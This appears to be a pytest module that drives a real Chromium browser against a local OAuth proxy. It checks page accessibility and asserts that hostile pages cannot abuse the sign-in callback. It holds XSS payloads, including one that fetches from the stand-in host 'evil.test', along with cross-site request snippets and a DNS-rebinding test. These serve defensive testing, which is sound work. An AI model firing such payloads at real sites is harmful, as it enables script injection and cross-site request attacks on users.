"""What a real browser makes of it: the pages, scripts, frames, windows, rebinding (rows P31, P43 to P45, P53, P82)."""

from __future__ import annotations

import hashlib
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from aiohttp import web
from playwright.sync_api import Browser, BrowserContext, Error, Page, sync_playwright

from ccapi.oauth import pages
from tests.gateway.harness import await_that, in_thread
from tests.oauth.support import MARKER, Login, Running

pytestmark = pytest.mark.usefixtures("clean_log")

CHROMIUM = "/usr/bin/chromium"
OPTIONS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
OPTIONS += ["--disable-sync", "--no-first-run", "--host-resolver-rules=MAP evil.test 127.0.0.1"]
OPTIONS += ["--disable-features=LocalNetworkAccessChecks"]  # a browser that has this protection is not the only one


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """A real one."""
    with sync_playwright() as playwright:
        installed = CHROMIUM if Path(CHROMIUM).exists() else None  # else the one that playwright brings
        browser = playwright.chromium.launch(executable_path=installed, args=OPTIONS)
        yield browser
        browser.close()


@pytest.fixture
def context(chromium: Browser) -> Iterator[BrowserContext]:
    """As a fresh profile."""
    with chromium.new_context() as context:
        yield context


@dataclass
class Site:
    """Another web site on this machine, which keeps the headers of what it is asked for."""

    port: int = 0
    body: str = ""
    seen: list[dict[str, str]] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    @asynccontextmanager
    async def running(self) -> AsyncIterator[None]:
        app = web.Application()
        app.router.add_get("/{path:.*}", self._page)
        runner = web.AppRunner(app, access_log=None)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        self.port = runner.addresses[0][1]
        yield
        await runner.cleanup()

    async def _page(self, request: web.Request) -> web.Response:
        if request.path != "/favicon.ico":
            self.seen.append(dict(request.headers))
        if to := request.query.get("redirect"):
            return web.Response(status=302, headers={"Location": to})  # HTTPFound would write it anew
        return web.Response(text=f"<!doctype html><title>other</title>{self.body}", content_type="text/html")


@pytest.fixture
def site() -> Iterator[Site]:
    """A site that means no good, or an authorization server."""
    made = Site()
    with in_thread(made.running):
        yield made


def visit(context: BrowserContext, url: str) -> tuple[Page, list[str], list[str]]:
    """The page, every URL that was asked for, and everything that it said on the console or in a dialog."""
    page = context.new_page()
    asked: list[str] = []
    said: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.goto(url)
    return page, asked, said


def _is_harmless(line: str) -> bool:
    """The status of the page itself; and the icon that is none, so that the browser asks for no other one."""
    return line.startswith("Failed to load resource") or "the image 'data:,' violates" in line


def served(proxy: Running) -> int:
    """The number of requests that have come in on any port."""
    return proxy.proxy._served


# --- pages


@pytest.mark.parametrize("width", [320, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_all_pages_can_be_read(chromium: Browser, width: int, scheme: Any) -> None:
    """On a phone and a desk, light and dark: nothing sticks out, the style is applied, the contrast is AA or better."""
    with chromium.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme) as context:
        page = context.new_page()
        for one in pages.ALL:
            page.set_content(pages.render(one).decode())
            assert page.title() == one.title == page.inner_text("h1")
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), one.title
            assert page.evaluate("document.documentElement.scrollHeight <= innerHeight"), one.title
            for element, colors in page.evaluate(COLORS):
                assert contrast(*colors) >= (3 if element == "svg" else 4.5), (element, one.title)


COLORS = """[...document.querySelectorAll('svg, h1, p, code, footer')].map(one => {
    let back = one;
    while (getComputedStyle(back).backgroundColor === 'rgba(0, 0, 0, 0)') back = back.parentElement;
    const colors = [getComputedStyle(one).color, getComputedStyle(back).backgroundColor];
    return [one.tagName, colors.map(text => text.match(/\\d+/g).slice(0, 3).map(Number))];
})"""


def contrast(one: list[int], other: list[int]) -> float:
    """Of a colour and the one behind it (WCAG 2.2, 1.4.3)."""
    darker, lighter = sorted([luminance(one), luminance(other)])
    return (lighter + 0.05) / (darker + 0.05)


def luminance(color: list[int]) -> float:
    channels = [value / 255 for value in color]
    linear = [value / 12.92 if value <= 0.04045 else ((value + 0.055) / 1.055) ** 2.4 for value in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("kind", ["success", "failure", "landing"])
def test_a_page_is_one_request(context: BrowserContext, login: Login, kind: str) -> None:
    """P82: no icon, no font, nothing; the style is taken by its hash."""
    login.running.gateway.outcome = "accepted" if kind == "success" else "unreachable"
    before = served(login.running)
    url = f"http://localhost:{login.port}{login.target}"
    page, asked, said = visit(context, f"http://localhost:{login.running.port}/" if kind == "landing" else url)
    page.wait_for_load_state("networkidle")
    assert len(asked) == 1
    assert served(login.running) - before == 1
    assert all(_is_harmless(line) for line in said)
    assert page.evaluate("getComputedStyle(document.querySelector('main')).borderRadius") == "18px"


@pytest.mark.parametrize("outcome", ["accepted", "unreachable"])
def test_the_next_page_is_not_told_where_one_comes_from(
    context: BrowserContext, login: Login, site: Site, outcome: str
) -> None:
    """P82: the address has the code."""
    login.running.gateway.outcome = outcome
    page, _, _ = visit(context, f"http://localhost:{login.port}{login.target}")
    page.evaluate(f"location.href = '{site.url}'")
    page.wait_for_url(site.url)
    assert [headers for headers in site.seen if "Referer" in headers] == []
    assert site.seen


def test_a_redirect_at_the_end_of_a_sign_in(context: BrowserContext, login: Login, site: Site) -> None:
    """P44: from another site, as a real one; the page says success."""
    callback = f"http://localhost:{login.port}{login.target}&iss=https%3A%2F%2Fas.example"
    page = context.new_page()
    page.goto(site.url)
    page.goto(f"{site.url}?redirect={quote(callback, safe='')}", referer=site.url)
    assert page.inner_text("h1") == "Sign-in received"
    assert [one["query"] for one in login.running.gateway.callbacks] == [f"{login.query}&iss=https%3A%2F%2Fas.example"]


# --- hostile ones

SCRIPTS = [
    f"<script>document.title='{MARKER}';alert(1)</script>",
    f'"><img src=//evil.test/{MARKER} onerror=alert(1)>',
    f"'><svg onload=alert('{MARKER}')>",
    f"</style><script>fetch('//evil.test/{MARKER}')</script>",
    f"javascript:alert('{MARKER}')",
]


@pytest.mark.parametrize("text", SCRIPTS)
def test_no_script_runs(context: BrowserContext, proxy: Running, text: str) -> None:
    """P31, P32: in a parameter, a name or a path; nothing of it is in the page, nothing else is asked for."""
    encoded = quote(text, safe="")
    login = proxy.login()
    port = f"http://localhost:{login.port}"
    for url in (
        f"{port}/callback?code=c&state={encoded}",
        f"{port}/{encoded}?{encoded}={encoded}",
        f"{port}/callback?code=c&state=x#{encoded}",
        f"http://localhost:{proxy.port}/{text.replace('#', '')}",
        f"{port}/callback?error={encoded}&error_description={encoded}&error_uri={encoded}&state={login.state}",
    ):
        before = served(proxy)
        page, asked, said = visit(context, url)
        assert MARKER not in page.content()
        assert MARKER not in page.title()
        assert len(asked) == 1
        assert served(proxy) - before == 1
        assert all(_is_harmless(line) for line in said)
        page.close()


EMBEDDED = [
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<img src="{url}">',
    '<script src="{url}"></script>',
    '<link rel="stylesheet" href="{url}">',
    "<script>fetch('{url}', {{mode: 'no-cors'}})</script>",
    "<script>fetch('{url}', {{credentials: 'include'}})</script>",
    "<script>new WebSocket('{url}'.replace('http', 'ws'))</script>",
    "<script>navigator.sendBeacon('{url}')</script>",
    '<form id=f method=post action="{url}"></form><script>f.submit()</script>',
]


@pytest.mark.parametrize("body", EMBEDDED, ids=lambda body: hashlib.sha256(body.encode()).hexdigest()[:4] + body[:24])
def test_no_page_can_use_it(context: BrowserContext, login: Login, site: Site, body: str) -> None:
    """P43, P45: refused even with a right callback, which still completes; a frame shows nothing of it."""
    site.body = body.format(url=f"http://localhost:{login.port}{login.target}")
    before = served(login.running)
    page, _, _ = visit(context, site.url)
    await_that(lambda: served(login.running) > before, "it was tried")
    for frame in page.frames[1:]:
        with suppress(Error):  # an object's frame goes away when it was refused
            assert "Sign-in" not in frame.content()
    page.close()
    assert login.running.gateway.callbacks == []
    login.still_completes()


def test_a_window_that_a_page_opens_is_cut_off(context: BrowserContext, proxy: Running, site: Site) -> None:
    """P45: its handle says nothing."""
    site.body = f"<script>w = window.open('http://localhost:{proxy.port}/')</script>"
    page = context.new_page()
    with context.expect_page() as opened:
        page.goto(site.url)
    opened.value.wait_for_load_state()
    assert opened.value.inner_text("h1") == "OAuth proxy is running"
    await_that(lambda: page.evaluate("w.closed"), "the opener has lost it")
    assert opened.value.evaluate("window.opener") is None


def test_rebinding(context: BrowserContext, login: Login) -> None:
    """P53: a name of the attacker that means 127.0.0.1 gets refusals only, on every port."""
    page = context.new_page()
    targets = [(login.port, login.target), (login.running.port, "/"), (login.running.port, "/health")]
    for port, target in targets:
        response = page.goto(f"http://evil.test:{port}{target}")
        assert response
        assert response.status == 421
    attack = f"http://evil.test:{login.running.port}/attack"
    context.route(attack, lambda route: route.fulfill(body="<!doctype html>", content_type="text/html"))
    page.goto(attack)  # it was loaded before the name changed its meaning
    ask = """async ([path, method]) => {
        const body = method === 'POST' ? '{}' : undefined;
        return (await fetch(path, {method, body, headers: {'Content-Type': 'application/json'}})).status;
    }"""
    for path, method in (("/health", "GET"), ("/oauth/sessions", "GET"), ("/oauth/register", "POST")):
        assert page.evaluate(ask, [path, method]) == 421
    login.still_completes()
